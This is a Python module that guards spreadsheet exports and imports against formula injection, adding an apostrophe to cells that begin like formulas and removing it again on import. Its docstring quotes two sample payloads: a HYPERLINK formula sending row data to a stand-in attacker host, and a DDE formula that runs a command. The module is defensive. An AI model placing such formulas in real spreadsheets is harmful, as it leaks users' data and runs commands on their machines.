"""The cells of the spreadsheets we export (CSV, XLSX) and import back: formula injection.

A spreadsheet program takes a cell that starts with "=", "+", "-" or "@" for a formula:
``=HYPERLINK("https://evil.example/?"&A2, "Details")`` sends the row elsewhere when clicked, and
older Excel ran commands through DDE (``=cmd|' /C calc'!A0``). The matrix's texts come from
users, so an export writes every text that starts like a formula with an apostrophe in front,
the fix OWASP gives ("CSV Injection"): spreadsheets show it as text. Tab and carriage return
are covered too (some programs skip them before looking for the sign), and so are the four
signs' full-width forms (U+FF1D, U+FF0B, U+FF0D, U+FF20), in case a program folds them to the
ASCII ones; a real title rarely starts with either.

CSV and XLSX write exactly the same value, through ``spreadsheet_cell``. An import takes the
apostrophe off again (``spreadsheet_cell_restore``), so that an export imports back unchanged;
a person typing '=x in Excel gets "=x" stored, as Excel itself does.
"""

from __future__ import annotations

from typing import Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

# Full-width equals, plus, hyphen-minus and at, written as escapes: they look like ASCII signs.
FULL_WIDTH_SIGNS = ("\uff1d", "\uff0b", "\uff0d", "\uff20")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", *FULL_WIDTH_SIGNS)
TEXT_MARK = "'"


def spreadsheet_cell(value: Any) -> Any:
    """``value`` as an export writes it: a text that a spreadsheet would run as a formula gets
    an apostrophe in front, and loses the control characters an XLSX file cannot hold (first,
    so that removing them cannot uncover a formula). Numbers and dates are left as they are."""
    if not isinstance(value, str):
        return value
    text = ILLEGAL_CHARACTERS_RE.sub("", value)
    return TEXT_MARK + text if text.startswith(FORMULA_STARTS) else text


def spreadsheet_cell_restore(value: Any) -> Any:
    """An imported cell with the apostrophe ``spreadsheet_cell`` added taken off again."""
    if isinstance(value, str) and value.startswith(TEXT_MARK) and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value
